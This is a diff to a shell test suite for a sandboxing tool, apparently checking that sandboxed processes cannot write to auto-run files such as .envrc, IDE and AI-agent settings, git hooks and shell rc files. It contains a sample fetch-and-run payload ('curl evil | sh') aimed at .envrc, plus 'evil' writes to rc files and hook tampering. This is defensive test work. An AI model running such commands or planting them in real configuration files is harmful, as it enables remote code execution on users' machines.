@@ -33,16 +33,35 @@ for root in . nested; do
 	try "$root: create .envrc" "echo 'curl evil | sh' > $root/.envrc"
 	try "$root: create .vscode/tasks.json" "mkdir -p $root/.vscode && echo '{}' > $root/.vscode/tasks.json"
 	try "$root: create .claude/settings.json" "mkdir -p $root/.claude && echo '{}' > $root/.claude/settings.json"
-	try "$root: create .bashrc" "echo evil > $root/.bashrc"
 done
 try "create .gitmodules" "echo '[submodule]' > .gitmodules"
 try "create .idea/workspace.xml" "mkdir -p .idea && echo x > .idea/workspace.xml"
 try "create .codex/config.toml" "mkdir -p .codex && echo x > .codex/config.toml"
 try "create .gemini/settings.json" "mkdir -p .gemini && echo x > .gemini/settings.json"
 try "create .hutch.json" "echo '{}' > .hutch.json"
-for rc in .bash_profile .zshrc .zprofile .profile; do
-	try "create $rc" "echo evil > $rc"
+# Shell rc files: a shell reads them from a home alone ($HOME, $ZDOTDIR, a home the user
+# database names: src/lib/base/homedir.c). In a workspace that is one, each is refused,
+# existing or not; in one that is none, a missing one is the project's own file (no
+# placeholder: nothing reads it), an existing one stays read-only (a dotfiles repository's
+# file that the home's link points to).
+for rc in .bashrc .bash_profile .zshrc .zprofile .profile; do
+	HOME=$WS hrun run --allow-dangerous-workspace -- sh -c "echo evil > $rc"
+	isnt "$RC" 0 "create $rc in a workspace that is \$HOME: refused (exit $RC)"
+	like "$ERR" "$REFUSED" "  with an errno ($(head -1 <<<"$ERR"))"
 done
+ZDOTDIR=$WS hrun run -- sh -c "echo evil > .zshrc"
+isnt "$RC" 0 "create .zshrc in a workspace that is \$ZDOTDIR: refused (exit $RC)"
+for root in . nested; do
+	hrun run -- sh -c "ls -a $root; echo mine > $root/.bashrc && cat $root/.bashrc && rm $root/.bashrc"
+	is "$RC" 0 "$root, not a home: .bashrc is the project's own file"
+	unlike "$OUT" "^\.(bashrc|bash_profile|zshrc|zprofile|profile)$" "  no placeholder for a shell rc file there"
+	like "$OUT" "^\.envrc$" "  (the other placeholders are there)"
+	like "$OUT" "^mine$" "  written and read back"
+done
+echo "# the user's" >nested/.profile
+try "nested, not a home: write an existing .profile" "echo evil >> nested/.profile"
+is "$(cat nested/.profile)" "# the user's" "  unchanged"
+rm nested/.profile
 try "modify an existing hook" "echo EVIL >> .git/hooks/post-checkout"
 try "delete an existing hook" "rm .git/hooks/post-checkout"
 try "replace .git/hooks by renaming it away" "mv .git/hooks .git/hooks.old"
